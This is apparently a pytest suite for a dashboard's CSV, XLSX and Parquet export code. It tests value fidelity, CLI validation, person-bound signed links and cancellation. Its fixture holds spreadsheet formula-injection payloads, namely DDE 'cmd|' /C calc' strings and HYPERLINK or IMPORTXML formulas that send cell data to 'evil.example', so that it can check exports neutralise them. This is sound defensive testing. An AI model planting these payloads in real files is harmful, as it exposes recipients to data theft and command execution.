"""Files: equal to the database in every cell, harmless in a spreadsheet, bound to their person."""

import asyncio
import csv
import gzip
import io
import re
import resource
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit
from xml.etree import ElementTree

import httpx
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from openpyxl.utils.datetime import from_excel
from openpyxl.utils.escape import unescape
from sqlalchemy import Engine, insert, text
from starlette.applications import Starlette
from xlsxwriter import Workbook

from dashboard.shell import browsers, downloads, export_links, identity, routes
from dashboard.shell.downloads import Asker, Download
from dashboard.shell.export_links import Promise
from data_access.__main__ import main
from data_access.db import database, locks, tables
from data_access.db.errors import Invalid, NotAllowed, Refusal
from data_access.eligibility import judging
from data_access.explore import queries, saved_views
from data_access.exports import files, jobs, log, spool, xlsx
from data_access.exports.files import OfView, Order, Progress
from data_access.exports.jobs import Job
from program.reports import csv_guard
from program.reports import export_formats as limits
from program.reports.datasets import (
    ACTIVITY,
    APPLICATIONS,
    BY_KEY,
    DATASETS,
    NUMBERS,
    WORDS,
    ColumnKind,
    Dataset,
    DatasetColumn,
)
from program.reports.export_formats import Ending, FileFormat, Form
from program.reports.views import View
from program.review import people
from program.review.permissions import Role
from tests.builders import (
    NOW,
    STAFF,
    add_application,
    add_evidence,
    add_metrics,
    add_refresh,
    add_staff,
    member,
)
from tests.cases import ALL, first_of
from tests.data_access import clicks
from tests.data_access.guarded_cells import unguarded
from tests.databases import Databases

ANA, MIRA, NOOR = "ana@example.com", "mira@example.com", "noor@example.com"
ROOT = Path(__file__).resolve().parent.parent.parent.parent
BROWSER = "what this browser was given"
BODIES = (
    "1+1", "HYPERLINK(\"http://evil.example\",\"x\")", "cmd|' /C calc'!A0", "SUM(A1:A9)",
    "@SUM(1+1)*cmd|'x'!A0", "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
)  # fmt: skip
LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", " =", "\u3000=")
LINKS = (
    "http://evil.example",
    "mailto:a@evil.example",
    "ftp://evil.example/x",
    "internal:A1",
    "file:///etc",
)
PAYLOADS = (*(lead + body for lead in LEADS for body in BODIES), *LINKS)
TYPED = ("social_handle", "contact_platform", "contact_handle", "social_platform")
DAYS = 3_400


@pytest.fixture(scope="module")
def stocked(databases: Databases) -> Iterator[Engine]:
    """The configured database: formulas in every typed column, and 10,200 money values."""
    with databases.engine("files") as engine:
        with engine.begin() as conn:
            add_staff(conn)
            add_refresh(conn)
            for number, payload in enumerate(PAYLOADS, start=1):
                _apply(conn, number, payload)
            conn.execute(
                text(
                    "create table review.affiliate_daily_all partition of review.affiliate_daily default;"
                    "insert into review.affiliate_daily (affiliate_account_id, day, volume_usd, fees_usd,"
                    " trade_count, zero_fee_volume_usd, active_users, new_users)"
                    " select 1 + n % 40, date '2026-03-14' - n / 40, (n * 7919 % 100000007) + n % 100 / 100.0,"
                    " (n * 104729 % 999983) / 1000000.0 - 0.5, n, n / 7.0, n % 30, n % 7"
                    f" from generate_series(0, {DAYS - 1}) n"
                )
            )
            conn.execute(
                text(
                    "insert into review.requests (request_id, act, actor, application_id, content, at)"
                    " select gen_random_uuid(), 'DECIDE', 'ana@example.com', application_id,"
                    """ '{"command": "Decide", "draft": {"outcome": "rejected"}}', submitted_at"""
                    " from exchange.applications"
                )
            )
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
            patch.delenv("DATABASE_REPLICA_URL", raising=False)
            jobs.stop()
            yield engine
            jobs.stop()
            settled(leases=True)
            for purpose in database.Purpose:
                database.engine(purpose).dispose()


def _apply(conn: Any, number: int, payload: str) -> None:
    status = ("pending", "approved", "rejected")[number % 3]
    add_application(
        conn,
        number,
        account={"username": payload, "email": payload, "country_code": None},
        **dict.fromkeys(TYPED, payload),
        status=status,
        submitted_at=NOW - timedelta(days=number, microseconds=number * 1_001),
    )
    if number % 4:
        add_metrics(
            conn, number, volume=Decimal(number * 10**13 + 1) / 100, active=number, fees="-0.000001"
        )
    if number % 5 == 0:
        add_evidence(conn, number, value=number * 1_000)
        add_evidence(conn, number, kind="external_volume", value="1.005", exchange_name=payload)
    if status != "pending":
        conn.execute(
            insert(tables.decisions).values(
                application_id=number,
                outcome=status,
                rationale=payload,
                message_to_applicant=payload,
                reason_code=payload if status == "rejected" else None,
                override_reason=payload,
                rebate_rate="0.1234" if status == "approved" else None,
                # Addresses are stored in normal form.
                decided_by=people.normal(payload) or "somebody",
                second_approver=people.normal(payload + "2"),
                policy_version=1,
                snapshot={},
                decided_at=NOW,
            )
        )


def everything(dataset: Dataset, **query: str) -> View:
    parameters = {"dataset": dataset.key, "columns": ",".join(dataset.names), **query}
    if dataset is ACTIVITY:
        parameters.setdefault("day", "2025-06-01..2026-03-14")
    return View.from_query(parameters, personal=True)


def order_of(view: View, file_format: FileFormat, **form: bool) -> Order:
    chosen = Form(file_format=file_format, **form)
    return Order(selection=OfView(view=view), form=chosen, exported_by=ANA, now=NOW)


def file_of(order: Order) -> bytes:
    target = io.BytesIO()
    with tempfile.TemporaryDirectory() as folder:
        files.write(order, target, folder=Path(folder), progress=Progress())
    return target.getvalue()


def in_database(engine: Engine, view: View) -> list[dict[str, Any]]:
    with engine.connect() as conn:
        return queries.page(conn, view, judging.read_context(conn, now=NOW), size=100_000)


def as_csv(value: Any) -> str:
    match value:
        case None:
            return ""
        case bool():
            return "true" if value else "false"
        case datetime():
            written = value.astimezone(UTC).isoformat().removesuffix("+00:00")
            # As the database writes it, with as many digits of a second as it has.
            return (written.rstrip("0") if "." in written else written) + "Z"
        case date():
            return value.isoformat()
        case Decimal():
            return f"{value:f}"
    return str(value)


def as_cell(value: Any, column: DatasetColumn) -> Any:
    """Return what a spreadsheet holds for a value."""
    if isinstance(value, datetime):
        # A spreadsheet's times have milliseconds, and never round up to the next day.
        plain = value.astimezone(UTC).replace(tzinfo=None)
        return plain.replace(microsecond=plain.microsecond // 1000 * 1000)
    if isinstance(value, Decimal):
        scaled = value.quantize(Decimal(1).scaleb(-column.scale))
        digits = len(str(scaled.normalize().as_tuple().digits)) // 3
        return f"{scaled:f}" if digits > 15 else scaled
    if isinstance(value, date):
        return datetime.fromisoformat(value.isoformat())
    return None if value == "" else value


@pytest.mark.sampled
@pytest.mark.parametrize("key", list(BY_KEY))
def test_every_format_reads_back_as_the_database_has_it(stocked: Engine, key: str) -> None:
    # Forty rows a day.
    few = {"day": "2026-03-05..2026-03-14"} if key == "activity" and not ALL else {}
    view = everything(BY_KEY[key], **few)
    expected, names = in_database(stocked, view), [column.name for column in view.shown]

    table = pq.read_table(io.BytesIO(file_of(order_of(view, FileFormat.PARQUET))))
    lines = file_of(order_of(view, FileFormat.CSV, bom=True, gzip=True))
    frame = pd.read_csv(
        io.BytesIO(gzip.decompress(lines)), dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(file_of(order_of(view, FileFormat.XLSX))))
    header, *cells = workbook["Rows"].iter_rows(values_only=True)

    assert table.column_names == list(frame.columns) == list(header) == names
    assert len(expected) == table.num_rows == len(frame) == len(cells) > 0 or key == "monthly"
    assert table.to_pylist() == expected
    words = [column.kind in WORDS for column in view.shown]
    for row, line, row_cells in zip(expected, frame.itertuples(index=False), cells, strict=True):
        read = [unguarded(cell) if word else cell for cell, word in zip(line, words, strict=True)]
        assert read == [as_csv(value) for value in row.values()]
        for value, cell, column in zip(row.values(), row_cells, view.shown, strict=True):
            wanted = as_cell(value, column)
            if isinstance(wanted, Decimal):
                assert Decimal(repr(cell)).quantize(Decimal(1).scaleb(-column.scale)) == wanted
            else:
                # Spreadsheets write control characters as numbers.
                assert (unescape(cell) if isinstance(cell, str) else cell) == wanted, column.name
    if key == "activity":
        assert 3 * len(expected) >= (10_000 if ALL else 1_000)


@pytest.mark.parametrize("key", list(BY_KEY))
def test_a_file_with_decimal_commas_is_the_same_file(stocked: Engine, key: str) -> None:
    """Read as a German spreadsheet does, every cell is that of the usual CSV."""
    view = everything(BY_KEY[key])
    usual = list(
        csv.reader(io.StringIO(file_of(order_of(view, FileFormat.CSV)).decode(), newline=""))
    )
    written = file_of(order_of(view, FileFormat.CSV, comma=True))
    german = list(csv.reader(io.StringIO(written.decode(), newline=""), delimiter=";"))

    numbers = [c.kind in NUMBERS and c.kind is not ColumnKind.ID for c in view.shown]
    assert german[0] == usual[0]
    for line, commas in zip(usual[1:], german[1:], strict=True):
        assert not any("." in cell for cell, number in zip(commas, numbers, strict=True) if number)
        assert line == [
            cell.replace(",", ".") if number else cell
            for cell, number in zip(commas, numbers, strict=True)
        ]


def test_groups_are_written_with_decimal_commas_too(stocked: Engine) -> None:
    view = everything(ACTIVITY, group="account_id", measures="count,average:volume_usd")
    written = file_of(order_of(view, FileFormat.CSV, bom=True, comma=True)).decode()

    assert written.startswith("\ufeffaccount_id;count;average_volume_usd\n")
    assert re.fullmatch(r"\d+;\d+;\d+,\d+", written.splitlines()[1])


def test_the_sheet_about_says_which_days_were_meant(stocked: Engine) -> None:
    view = everything(BY_KEY["decisions"], decided_at="last30", submitted_at="2026-01-01..")
    book = openpyxl.load_workbook(io.BytesIO(file_of(order_of(view, FileFormat.XLSX))))
    found = dict(book["About"].iter_rows(values_only=True))
    last = NOW.date() - timedelta(days=1)

    assert found["Days"] == f"decided_at {last - timedelta(days=29)} to {last}, UTC"
    assert "the last 30 days" in found["Filters"]


def test_a_file_has_the_cells_of_a_pivot_below_each_other_and_says_so(stocked: Engine) -> None:
    grouped = everything(APPLICATIONS, group="status,country_code", measures="count,sum:volume_usd")
    pivot = everything(
        APPLICATIONS,
        group="status,country_code",
        measures="count,sum:volume_usd",
        across="country_code,count",
    )
    assert pivot.across is not None
    plain = file_of(order_of(grouped, FileFormat.CSV))
    book = openpyxl.load_workbook(io.BytesIO(file_of(order_of(pivot, FileFormat.XLSX))))
    about = dict(book["About"].iter_rows(values_only=True))

    assert file_of(order_of(pivot, FileFormat.CSV)) == plain
    assert plain.startswith(b"status,country_code,count,sum_volume_usd\n")
    assert "country_code lies across, with count in cells" in about["Pivot"]
    assert "below each other" in about["Pivot"]


@pytest.mark.parametrize("dataset", [d for d in DATASETS if d.key not in ("monthly", "activity")])
def test_no_payload_is_live_in_any_text_column_of_any_format(
    stocked: Engine, dataset: Dataset
) -> None:
    view = everything(dataset)
    texts = [column.name for column in view.shown if column.kind is ColumnKind.TEXT]
    lines = csv.DictReader(
        io.StringIO(file_of(order_of(view, FileFormat.CSV)).decode(), newline="")
    )
    packed = file_of(order_of(view, FileFormat.XLSX))

    seen = set()
    for line in lines:
        for name in line:
            assert not line[name].startswith(tuple("=+@\t\r\n＝＋－＠"))
            assert not line[name].startswith("-") or re.fullmatch(r"-[0-9.]+", line[name])
        seen |= {unguarded(line[name]) for name in texts}
    assert len(PAYLOADS) >= 50
    assert seen >= set(PAYLOADS) or dataset.key != "applications"
    with zipfile.ZipFile(io.BytesIO(packed)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert not re.search(r"<f[ >]|<hyperlink|t=\"str\"", sheet)
        assert not [
            name for name in parts.namelist() if "externalLink" in name or "sheet1.xml.rels" in name
        ]
    for row in openpyxl.load_workbook(io.BytesIO(packed))["Rows"].iter_rows():
        assert {cell.data_type for cell in row} <= {"s", "n", "d", "b", "inlineStr"}
        assert not [cell for cell in row if cell.hyperlink]


def test_a_workbook_is_typed_frozen_and_describes_itself(stocked: Engine) -> None:
    view = View.from_query(
        {"columns": "application_id,submitted_at,volume_usd", "status": "pending"}, personal=True
    )
    book = openpyxl.load_workbook(io.BytesIO(file_of(order_of(view, FileFormat.XLSX))))
    rows, about = book["Rows"], dict(book["About"].iter_rows(values_only=True))

    assert rows.freeze_panes == "A2"
    assert [cell.data_type for cell in rows[2]] == ["n", "d", "n"]
    assert rows["C2"].number_format == "#,##0.00"
    assert about["Filters"] == "status: pending"
    assert (about["Window"], about["Data through"]) == (
        "2026-02-13 to 2026-03-14, UTC",
        "2026-03-14, UTC",
    )
    assert (about["Policy"], about["Exported by"], about["Rows"]) == (
        "version 1",
        ANA,
        f"{rows.max_row - 1}",
    )
    assert about["Exported at"] == "2026-03-15 09:00:00 UTC"


def test_more_rows_than_a_sheet_holds_are_refused_with_the_way_on(
    stocked: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "XLSX_ROWS", len(PAYLOADS) - 1)
    monkeypatch.setattr(files, "XLSX_ROWS", len(PAYLOADS) - 1)

    with pytest.raises(Invalid, match="export as CSV or Parquet"):
        file_of(order_of(everything(APPLICATIONS), FileFormat.XLSX))
    file_of(order_of(everything(APPLICATIONS), FileFormat.PARQUET))


PARTICULAR = (
    *("_x0041_", "__x0041_x", "a\x01b", "\x1f", "a\tb\nc\rd", "\ufffe\uffff", "<a href='x'>&amp;</a>", '"'),
    *(" lead", "trail ", "\u00a0both\u00a0", "\u2003", "\u3000=1", "\ufeff", "🦔", "]]>", "-", "=", "'", "0"),
)  # fmt: skip
LONGEST = xlsx.LONGEST_TEXT
XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def texts_in(packed: io.BytesIO) -> list[str]:
    """Return a spreadsheet's first column, read according to the standard.

    openpyxl does not decode characters written as numbers.
    """
    with zipfile.ZipFile(packed) as parts:
        sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    return [
        re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text.text or "")
        for text in sheet.iterfind(f"{XML}sheetData/{XML}row/{XML}c/{XML}is/{XML}t")
    ]


@pytest.mark.parametrize("second", ["59.999999", "59.9995", "59.999", "59.5", "59", "00"])
@pytest.mark.parametrize("day", ["1900-03-01", "2024-02-29", "2026-10-31", "9999-12-31"])
def test_a_time_is_of_the_same_day_and_second_in_a_workbook(day: str, second: str) -> None:
    kept = xlsx.moment_number(f"{day}T23:59:{second}Z")

    assert kept is not None
    shown = from_excel(kept)
    assert f"{shown:%Y-%m-%d %H:%M:%S}" == f"{day} 23:59:{second[:2]}"
    assert abs(shown.microsecond - round(float(second) % 1 * 1e6)) < 1_000


def test_every_text_arrives_in_a_workbook_as_it_is() -> None:
    texts = [*PARTICULAR, "a" * LONGEST, "b" * (LONGEST + 1)]
    target = io.BytesIO()
    with Workbook(target, {"constant_memory": True, "strings_to_urls": False}) as book:
        cells = xlsx._Cells(book, book.add_worksheet("Rows"))
        write = cells.writer(DatasetColumn(name="x", kind=ColumnKind.TEXT, description=""))
        for row, text in enumerate(texts):
            write(row, 0, text)

    wanted = [text[:LONGEST] for text in texts]
    assert texts_in(target) == wanted
    shown = [row[0] for row in openpyxl.load_workbook(target)["Rows"].iter_rows()]
    assert [cell.quotePrefix for cell in shown] == [csv_guard.is_dangerous(text) for text in wanted]
    assert cells.cut == 1


def test_a_workbook_is_written_from_first_to_last(stocked: Engine, tmp_path: Path) -> None:
    class Forward:
        """A spool's reader: bytes that were written once and never change."""

        def __init__(self) -> None:
            self.written = bytearray()

        def write(self, piece: Any) -> int:
            self.written += piece
            return len(piece)

        def flush(self) -> None:
            pass

    target, progress = Forward(), Progress()
    order = order_of(everything(APPLICATIONS), FileFormat.XLSX)
    files.write(order, target, folder=tmp_path, progress=progress)  # type: ignore[arg-type]

    assert progress.rows == len(PAYLOADS)
    with zipfile.ZipFile(io.BytesIO(target.written)) as parts:
        assert parts.testzip() is None
        assert len(parts.read("xl/worksheets/sheet1.xml")) > 10_000


def test_more_than_a_part_of_the_file_holds_is_refused_with_the_way_on(
    stocked: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("zipfile.ZIP64_LIMIT", 10_000)

    with pytest.raises(Invalid, match=r"Choose fewer columns, .* or export as CSV or Parquet"):
        file_of(order_of(everything(APPLICATIONS), FileFormat.XLSX))


# --- The command line -----------------------------------------------------------------------------


def run(*arguments: str) -> Any:
    return CliRunner().invoke(main, ["export", *arguments])


def settled(*, leases: bool = False) -> None:
    """Wait for background work of a test: watching an export, its log entry, its lease."""
    for name in ("export", "export-log", *(["job-leases"] if leases else [])):
        for thread in threading.enumerate():
            if thread.name == name:
                thread.join(15)


def last_line(engine: Engine) -> Any:
    settled()
    with engine.connect() as conn:
        return conn.execute(
            text("select * from review.exports order by export_id desc limit 1")
        ).one()


def test_the_command_line_writes_the_same_rows_and_the_same_log(
    stocked: Engine, tmp_path: Path
) -> None:
    view = View.from_query(
        {"columns": "application_id,username", "sort": "-username", "status": "approved"},
        personal=True,
    )
    with stocked.begin() as conn:
        conn.execute(text("delete from review.saved_views"))
    saved_views.save(
        stocked,
        clicks.command(
            saved_views.SaveView,
            name="Approved ones",
            view=view,
            shared=False,
            actor=ANA,
        ),
    )

    options = (
        "--columns",
        "application_id,username",
        "--order",
        "-username",
        "--filter",
        "status=approved",
    )
    to_stdout = run("applications", "-", *options)
    saved = run(str(tmp_path / "x.csv"), "--view", "approved ONES")
    packed = run("applications", str(tmp_path / "x.parquet"), *options)

    assert (to_stdout.exit_code, saved.exit_code, packed.exit_code) == (0, 0, 0), saved.output
    written = file_of(order_of(view, FileFormat.CSV))
    assert to_stdout.stdout_bytes == (tmp_path / "x.csv").read_bytes() == written
    ids = [int(line[0]) for line in list(csv.reader(io.StringIO(written.decode(), newline="")))[1:]]
    assert pq.read_table(tmp_path / "x.parquet")["application_id"].to_pylist() == ids
    with stocked.connect() as conn:
        lines = conn.execute(
            text(
                "select format, view_name, filters, columns, row_count, outcome from review.exports order by export_id desc limit 3"
            )
        ).all()
    assert [line.format for line in lines] == ["parquet", "csv", "csv"]
    assert [line.view_name for line in lines] == [None, "Approved ones", None]
    assert (
        len(
            {(str(line.filters), str(line.columns), line.row_count, line.outcome) for line in lines}
        )
        == 1
    )


COMBINATIONS: dict[str, list[list[str]]] = {
    "applications": [
        ["--order", "-volume_usd"],
        ["--filter", "status=approved"],
        ["--status", "approved"],
        ["--status", "pending", "--sort", "submitted"],
        ["--search", "x", "--waiting", "7"],
        ["--eligibility", "met", "--track", "both", "--country", "BR", "--platform", "x"],
    ],
    "decisions": [["--order", "-decided_at"], ["--filter", "outcome=approved"]],
    "affiliates": [["--order", "-volume_usd"], ["--filter", "rebate_rate=0.1.."]],
    "monthly": [["--order", "month"], ["--filter", "volume_usd=1.."]],
    "activity": [["--order", "-day"], ["--filter", "day=last30"]],
}


@pytest.mark.parametrize("dataset", list(COMBINATIONS))
def test_a_file_has_the_documented_columns_with_any_filter_or_order(
    stocked: Engine, dataset: str
) -> None:
    page = (ROOT / "docs" / "exports.md").read_text()
    table = page.split(f"### `{dataset}`")[1].split("\n### ")[0]
    documented = re.findall(r"^\| `(\w+)` \|", table, re.MULTILINE)

    for options in [[], *COMBINATIONS[dataset]]:
        done = run(dataset, "-", *options)
        assert done.stdout.splitlines()[:1] == [",".join(documented)], (options, done.stderr)
    for options in [[], *COMBINATIONS[dataset]]:
        done = run(dataset, "-", *options, "--columns", f"{documented[-1]}, {documented[0]}")
        assert done.stdout.splitlines()[:1] == [f"{documented[-1]},{documented[0]}"], done.stderr


def test_a_view_keeps_no_more_than_its_owner_may_see_by_now(stocked: Engine) -> None:
    kept = View.from_query({"columns": "application_id,contact_handle"}, personal=True)
    for owner in (ANA, NOOR):
        # Noor used to be a reviewer.
        with stocked.begin() as conn:
            conn.execute(
                insert(tables.saved_views).values(
                    owner=owner, name="Contacts", shared=False, screen="explore", created_at=NOW,
                    query=urlencode(kept.to_query()),
                )
            )  # fmt: skip

    allowed, refused = (run("-", "--view", "contacts", "--owner", who) for who in (ANA, NOOR))

    assert (allowed.exit_code, refused.exit_code) == (0, 1)
    assert allowed.stdout.startswith("application_id,contact_handle")
    assert refused.stderr.count("\n") == 1
    assert "which its owner noor@example.com may not see" in refused.stderr
    assert refused.stdout == ""


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (["decisions", "-", "--filter", "outcome"], "write COLUMN=FILTER"),
        (["decisions", "-", "--filter", "outcome=maybe"], "is not understood"),
        (["decisions", "-", "--filter", "color=red"], "There is no column"),
        (["decisions", "-", "--columns", "decision_id,color"], "There is no column"),
        (["decisions", "-", "--status", "approved"], "--status is the queue's"),
        (
            ["applications", "-", "--status", "approved", "--order", "status"],
            "--status is the queue's",
        ),
        (["activity", "-", "--filter", "day=2020-01-01..2026-01-01"], "at most 366 days"),
        (["-", "--view", "no such"], "There is no view 'no such'"),
        (["-", "--view", "x", "--filter", "outcome=approved"], "leave out --filter."),
        (["decisions", "x.xlsx", "--gzip"], "apply only to CSV"),
        (["decisions", "x.parquet", "--decimal-comma"], "apply only to CSV"),
        *(
            (
                ["decisions", name],
                f"{name} has an extension that no export has. Use .csv, .csv.gz, ",
            )
            for name in (
                "x.xls",
                "x.json",
                "x.csv.zst",
                "x.csv.bz2",
                "x.tsv",
                "x.",
                "x.json.gz",
                "x.csv.2",
            )
        ),
        (["x.ods", "--view", "Approved ones"], "x.ods has an extension"),
    ],
)
def test_the_command_line_refuses_invalid_exports(
    stocked: Engine, arguments: list[str], sentence: str
) -> None:
    done = run(*arguments)

    assert done.exit_code == 1
    assert sentence in done.stderr
    assert done.stderr.count("\n") == 1


def test_a_file_is_written_and_logged_although_the_replica_does_not_respond(
    stocked: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_REPLICA_URL", "postgresql://nobody@127.0.0.1:1/nowhere")

    done = run("decisions", "-")

    assert done.exit_code == 0, done.stderr
    assert last_line(stocked).outcome == "complete"


# --- The link -------------------------------------------------------------------------------------


def promise(email: str = ANA, **given: Any) -> Promise:
    return Promise(
        **{"email": email, "role": Role(STAFF[email]), "query": {"status": "pending"}, **given}
    )


def address(made: Promise, browser: str = BROWSER) -> str:
    return "/" + export_links.view_link(made, "applications", browser=browser)


@pytest.fixture(autouse=True)
def _signed_in(monkeypatch: pytest.MonkeyPatch) -> None:
    """The signed-in person is in a cookie of the tests."""
    monkeypatch.setattr(identity, "person", lambda asking: member(asking.cookies.get("who")))


def answer(path: str, *, browser: str = BROWSER, who: str = ANA) -> httpx.Response:
    async def ask() -> httpx.Response:
        transport = httpx.ASGITransport(Starlette(routes=routes.ROUTES))
        cookies = {browsers.MARK_COOKIE: browser} if browser else {}
        cookies |= {"who": who} if who else {}
        async with httpx.AsyncClient(
            transport=transport, base_url="http://localhost", cookies=cookies, timeout=30
        ) as client:
            return await client.get(path)

    return asyncio.run(ask())


def test_a_link_gives_the_view_as_its_format_to_its_person(stocked: Engine) -> None:
    promised = promise(
        query={"columns": "application_id", "sort": "application_id"},
        form=Form(file_format=FileFormat.PARQUET),
        view_name="mine",
    )

    given = answer(address(promised))

    assert given.status_code == 200
    assert pq.read_table(io.BytesIO(given.content))["application_id"].to_pylist() == list(
        range(1, len(PAYLOADS) + 1)
    )
    assert re.search(
        r'filename="applications-[\d-]+\.parquet"', given.headers["content-disposition"]
    )
    line = last_line(stocked)
    assert (line.exported_by, line.row_count, line.format, line.outcome, line.view_name) == (
        *(ANA, len(PAYLOADS), "parquet", "complete"),
        "mine",
    )


def altered() -> str:
    mine, other = (
        parse_qs(urlsplit(address(made)).query)["token"][0]
        for made in (promise(), promise(query={"status": "approved"}))
    )
    forged = ".".join([other.rsplit(".", 2)[0], *mine.rsplit(".", 2)[1:]])
    return f"/export/applications.csv?token={forged}"


def test_a_link_that_is_not_one_s_own_any_more_gives_a_sentence_and_reads_nothing(
    stocked: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun: list[Any] = []
    monkeypatch.setattr(jobs, "begin", lambda *given, **_: begun.append(given))
    demoted = promise(email=NOOR, role=Role.MANAGER)
    stranger = replace(promise(), email="eve@example.com")
    gone = replace(promise(), email="leo@example.com")

    for path, browser, who, sentence in (
        (address(promise()), "another browser", ANA, "made for another browser"),
        (address(promise()), "", ANA, "made for another browser"),
        (altered(), BROWSER, ANA, "was altered"),
        ("/export/applications.csv", BROWSER, ANA, "was altered"),
        (address(promise()), BROWSER, "", "You are no longer signed in"),
        (address(promise()), BROWSER, NOOR, "another person"),
        (address(promise()), BROWSER, MIRA, "another person"),
        (address(demoted), BROWSER, NOOR, "Your role changed"),
        (address(stranger), BROWSER, "eve@example.com", "no longer signed in"),
        (address(gone), BROWSER, "leo@example.com", "no longer signed in"),
    ):
        given = answer(path, browser=browser, who=who)
        assert (given.status_code, sentence in given.text) == (403, True), given.text
    old = address(promise())
    monkeypatch.setattr(export_links, "LINK_SECONDS", -1)
    assert answer(old).status_code == 403
    assert begun == []


def test_personal_columns_are_in_a_file_as_they_are_in_the_table(stocked: Engine) -> None:
    query = {"columns": "application_id,email,contact_handle", "email": "~x"}

    for email, columns in (
        (ANA, ["application_id", "email", "contact_handle"]),
        (NOOR, ["application_id"]),
    ):
        made = answer(address(promise(email=email, query=query)), who=email).content.decode()
        assert made.splitlines()[0].split(",") == columns


def test_only_managers_see_who_exported_what(stocked: Engine) -> None:
    answer(address(promise()))
    last_line(stocked)

    assert log.log(stocked, viewer=MIRA, limit=1)[0].exported_by == ANA
    for email in (ANA, NOOR, "ada@example.com", "eve@example.com"):
        with pytest.raises(NotAllowed):
            log.log(stocked, viewer=email)


# --- Hanging up, cancelling, and a database that goes away ------------------------------------------


def drain(pieces: Iterator[bytes | None]) -> None:
    for piece in pieces:
        time.sleep(0 if piece else 0.02)


@pytest.fixture
def stuck(stocked: Engine) -> Iterator[Job]:
    """An export whose first bytes were sent and whose query waits for a lock."""
    with stocked.connect() as holder, holder.begin():
        holder.execute(text("lock table review.affiliate_daily in access exclusive mode"))
        job = jobs.begin(order_of(everything(ACTIVITY), FileFormat.CSV))
        until(lambda: job.can_be_read)
        until(lambda: working(stocked) > 0)
        yield job
    job.cancel()


def ending_of(job: Job) -> tuple[Ending, str] | None:
    """Return how it ended, as every process can see."""
    (seen,) = (one for one in jobs.of(ANA) if one.job_id == job.job_id)
    return None if seen.ending is None else (seen.ending, seen.sentence)


def until(condition: Callable[[], Any], seconds: float = 30) -> Any:
    deadline = time.monotonic() + seconds
    while not (found := condition()):
        assert time.monotonic() < deadline
        time.sleep(0.02)
    return found


def asked_for_a_turn(engine: Engine) -> datetime | None:
    """Return when a worker last asked for its turn to read."""
    with engine.connect() as conn:
        return conn.execute(
            text(
                "select max(query_start) from pg_stat_activity"
                " where application_name = 'affiliate-review exporter'"
                " and query like '%pg_try_advisory_lock%'"
            )
        ).scalar_one()


def working(engine: Engine) -> int:
    with engine.connect() as conn:
        return conn.execute(
            text(
                "select count(*) from pg_stat_activity where datname = current_database()"
                " and application_name = 'affiliate-review exporter' and xact_start is not null"
            )
        ).scalar_one()


def test_a_client_that_disconnects_leaves_no_transaction_and_is_reported(
    stocked: Engine, stuck: Job
) -> None:
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        while not any(message.get("body") for message in sent):
            await asyncio.sleep(0.01)
        return {"type": "http.disconnect"}

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {"type": "http", "asgi": {"spec_version": "2.3"}}
    asker = Asker(promise(), lambda: member(ANA))
    asyncio.run(Download(stuck, asker, headers={})(scope, receive, send))

    assert sent[1]["body"].startswith(b"day,account_id,")
    until(lambda: working(stocked) == 0, 5)
    until(lambda: not stuck.folder.exists())
    assert until(lambda: ending_of(stuck)) == (Ending.CANCELLED, jobs.HUNG_UP)
    assert not stuck.folder.exists()
    assert last_line(stocked).outcome == "cancelled"


@pytest.mark.parametrize(
    "change", ["another role", *first_of("signed out", "another person", "left")]
)
def test_a_running_export_ends_when_its_person_loses_the_permission(
    stocked: Engine, stuck: Job, change: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(downloads, "ASK_EVERY_S", 0.0)
    now: dict[str, str | None] = {"who": ANA}
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        await asyncio.Event().wait()
        raise AssertionError

    async def send(message: Any) -> None:
        sent.append(message)
        if message.get("body") and change in ("signed out", "another person"):
            now["who"] = None if change == "signed out" else NOOR
        elif message.get("body"):
            setting = "active = false" if change == "left" else "role = 'analyst'"
            with stocked.begin() as conn:
                conn.execute(text(f"update review.staff set {setting} where email = '{ANA}'"))

    scope = {"type": "http", "asgi": {"spec_version": "2.4"}}
    asker = Asker(promise(), lambda: member(now["who"]))
    with pytest.raises(Refusal, match="Canceled"):
        asyncio.run(Download(stuck, asker, headers={})(scope, receive, send))
    with stocked.begin() as conn:
        back = "update review.staff set active = true, role = 'reviewer' where email = :who"
        conn.execute(text(back), {"who": ANA})

    assert stuck.ending is Ending.CANCELLED
    assert not any(message.get("more_body") is False for message in sent)
    until(lambda: working(stocked) == 0, 5)
    assert last_line(stocked).outcome == "cancelled"


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_a_full_disk_is_reported_to_the_person_and_everything_is_freed(
    stocked: Engine, file_format: FileFormat
) -> None:
    jobs.prepare()
    (waiting,) = jobs._waiting
    # Simulate a full disk: no file of that process grows beyond this size.
    resource.prlimit(waiting.pid, resource.RLIMIT_FSIZE, (20_000, 20_000))

    job = jobs.begin(order_of(everything(ACTIVITY), file_format))

    assert job.process is waiting
    until(lambda: job.ending is not None)
    assert job.ending is Ending.FAILED
    assert re.fullmatch(
        rf"The .*folder for (exports|temporary files), {job.folder}, cannot be written: "
        r"File too large\. Tell an administrator\.",
        job.sentence,
    )
    assert until(lambda: ending_of(job)) == (Ending.FAILED, job.sentence)
    until(lambda: working(stocked) == 0)
